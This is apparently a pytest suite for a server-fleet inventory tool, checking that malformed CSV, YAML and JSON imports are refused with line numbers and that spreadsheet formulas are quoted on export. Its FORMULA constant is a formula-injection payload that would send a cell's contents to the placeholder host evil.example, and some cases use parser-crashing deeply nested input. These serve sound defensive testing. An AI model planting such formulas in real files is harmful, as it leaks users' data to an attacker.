"""Inventory files a careless operator or an attacker would import: each refused with its file and line, or
exported so no spreadsheet runs it. Each case was once accepted (or crashed) otherwise."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select

from fleetops.errors import InvalidInput
from fleetops.inventory import formats
from fleetops.inventory.apply import apply_document
from fleetops.inventory.models import Node, Rack
from fleetops.sim.fleet import generate
from tests.factories import two_tenant_fleet

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _refused(data: bytes | str, fmt: str, source: str = "fleet") -> str:
    with pytest.raises(InvalidInput) as raised:
        formats.read(data, fmt, source).validate()
    return raised.value.message


@pytest.mark.parametrize("fmt", formats.FORMATS)
def test_a_file_that_is_not_utf8_is_refused_naming_the_line(fmt):
    text = formats.dump(two_tenant_fleet(), fmt)
    lines = text.encode().split(b"\n")
    lines[2] = lines[2] + b" caf\xe9"  # Latin-1 "é"
    message = _refused(b"\n".join(lines), fmt, "fleet." + fmt)
    assert message.startswith(f"fleet.{fmt} line 3: not UTF-8 (byte 0xe9 at column ")


def test_a_utf8_byte_order_mark_is_accepted():
    data = formats.dump(two_tenant_fleet(), "csv").encode("utf-8-sig")
    assert len(formats.read(data, "csv").validate().nodes) == len(two_tenant_fleet()["nodes"])


def test_a_key_given_twice_in_one_yaml_record_is_refused_naming_both_lines():
    text = "suppliers:\n- name: acme\n  contact_email: a@acme.example\n  name: initech\n"
    message = _refused(text, "yaml")
    assert "line 4: key 'name' appears twice in one mapping (also line 2)" in message


def test_a_yaml_merge_may_be_overridden_without_being_a_duplicate():
    text = "suppliers:\n- &d {name: acme, contact_email: noc@acme.example}\n- <<: *d\n  name: initech\n"
    doc = formats.read(text, "yaml").validate()
    assert [(s.name, s.contact_email) for s in doc.suppliers] == [
        ("acme", "noc@acme.example"),
        ("initech", "noc@acme.example"),
    ]


def test_a_key_given_twice_in_one_json_object_is_refused():
    assert "key 'name' appears twice" in _refused('{"suppliers": [{"name": "a", "name": "b"}]}', "json")


def test_a_csv_header_given_twice_is_refused():
    text = "kind,name,name\nsupplier,acme,initech\n"
    assert _refused(text, "csv", "fleet.csv") == "fleet.csv line 1: column 'name' appears twice in the header"


def test_a_csv_row_longer_than_its_header_is_refused():
    assert "line 2: 3 values for 2 columns" in _refused("kind,name\nsupplier,acme,extra\n", "csv")


@pytest.mark.parametrize("fmt", formats.FORMATS)
@pytest.mark.parametrize("data", [b"", b"  \n\n", "\ufeff".encode()])
def test_an_empty_file_is_refused(fmt, data):
    assert _refused(data, fmt) == "fleet: the file is empty"


@pytest.mark.parametrize(
    "fmt,text", [("csv", "kind,name,hostname\n"), ("yaml", "nodes: []\n"), ("json", "{}")]
)
def test_a_file_with_no_records_is_refused(fmt, text):
    assert _refused(text, fmt) == "fleet: no records"


def test_a_spreadsheet_formula_is_quoted_on_export_and_stored_exactly(database):
    fleet = two_tenant_fleet()
    fleet["racks"][0]["pod"] = FORMULA
    fleet["racks"][1]["pod"] = "'=quoted already"
    fleet["nodes"][0]["bmc_address"] = "@SUM(1)"
    fleet["nodes"][1]["bmc_address"] = "-1+1"
    with database.transaction() as session:
        apply_document(session, "test", formats.read(json.dumps(fleet, default=str), "json"))
        exported = formats.export(session)
    text = formats.dump(exported, "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert {"'@SUM(1)", "'-1+1", "''=quoted already"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with database.transaction() as session:
        again = apply_document(session, "test", formats.read(text, "csv"))
        pods = set(session.scalars(select(Rack.pod)))
        bmcs = set(session.scalars(select(Node.bmc_address)))
    assert sum(again.created.values()) == 0 and sum(again.updated.values()) == 0
    assert pods == {FORMULA, "'=quoted already"} and {"@SUM(1)", "-1+1"} <= bmcs


def test_yaml_and_json_keep_a_formula_verbatim():
    fleet = {"suppliers": [{"name": FORMULA}]}
    for fmt in ("yaml", "json"):
        assert formats.parse(formats.dump(fleet, fmt), fmt).suppliers[0].name == FORMULA


def test_a_generated_fleet_writes_as_json():
    text = formats.dump(generate(seed=2, nodes=600), "json")
    assert json.loads(text)["contracts"][0]["start_date"].startswith("2026-")
    assert len(formats.parse(text, "json").nodes) == 600


def test_a_generated_fleet_has_every_node_asked_for_past_a_thousand_clusters():
    """The cluster list used to stop at 1,000 clusters: 100,000 nodes asked, 75,776 made."""
    import itertools

    from fleetops.sim import fleet as sim

    sizes = list(itertools.islice(itertools.cycle(sim.CLUSTER_SIZES), 1001))
    asked = sim.SUBPOD + sum(sizes) + 5
    assert len(generate(seed=1, nodes=asked)["nodes"]) == asked


@pytest.mark.parametrize(
    "fmt,data",
    [
        ("yaml", b"nodes: " + b"[" * 100_000),  # crashed the process in libyaml's C composer
        ("json", b'{"nodes": ' + b"[" * 100_000),  # RecursionError
        ("yaml", b"nodes:\n" + b"- " * 100_000 + b"x\n"),
    ],
)
def test_deep_nesting_is_refused_before_the_parser_sees_it(fmt, data):
    assert "nested deeper than 32 levels" in _refused(data, fmt)
